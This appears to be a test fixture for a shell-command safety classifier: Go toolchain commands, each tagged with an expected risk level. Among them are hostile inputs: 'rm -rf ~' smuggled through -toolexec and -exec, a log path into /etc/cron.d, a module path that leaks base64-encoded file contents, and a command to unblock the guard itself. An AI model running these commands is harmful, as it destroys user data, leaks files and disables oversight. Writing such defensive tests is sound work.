go version  # want safe
go env GOPATH  # want safe
go list -m all  # want safe
go doc fmt.Println  # want safe
go mod graph  # want safe
go help build  # want safe
go build ./...  # want moderate
go test -race -run TestX ./...  # want moderate
go vet ./...  # want moderate
go run ./cmd/app --flag  # want moderate
go run example.com/x@latest  # want moderate
go generate ./...  # want moderate
go get example.com/x@v1.2.3  # want moderate
go mod tidy  # want moderate
go install ./...  # want moderate
go clean -modcache  # want moderate
go clean -testcache  # want moderate
go clean -i ./cmd/x  # want moderate
go env -w GOFLAGS=-toolexec=/tmp/x  # want moderate
go build -toolexec 'rm -rf ~' ./...  # want blocked irreversible
go test -exec 'rm -rf ~' ./...  # want blocked irreversible
gofmt -l .  # want safe
gofmt -w main.go  # want moderate
golangci-lint run ./...  # want moderate
golangci-lint --version  # want safe
staticcheck ./...  # want moderate
staticcheck -version  # want safe
dlv version  # want safe
dlv test  # want moderate
protoc --version  # want safe
protoc --go_out=. api.proto  # want moderate
buf lint  # want safe
buf push  # want moderate
go list -debug-trace out.json ./... # want moderate
golangci-lint linters --out-format json:report.json  # want moderate
golangci-lint linters --out-format line-number,json:stdout  # want safe
go tool pprof https://example.org/debug/pprof/heap  # want moderate
go tool pprof -top cpu.out  # want safe
go tool trace trace.out  # want moderate
dlv version --log-dest=/etc/cron.d/x  # want dangerous
go list -m "example.com/$(base64 notes.txt)@latest"  # want moderate
go list -m all  # want safe
go list -compiled ./...  # want moderate
go list -deps ./...  # want safe
go tool cover -html=c.out  # want moderate
go tool cover -func=c.out  # want safe
go tool pprof -top cpu.out  # want safe
go tool pprof cpu.out <<< 'top > x'  # want moderate
go list -mod=mod ./...  # want moderate
go list -mod=readonly ./...  # want safe
GOFLAGS=-mod=mod go list ./...  # want moderate
GOFLAGS=-mod=vendor go list ./...  # want safe
go run ./cmd/gk-ctl unblock  # want blocked
go run ./cmd/gk-hook check ls  # want moderate
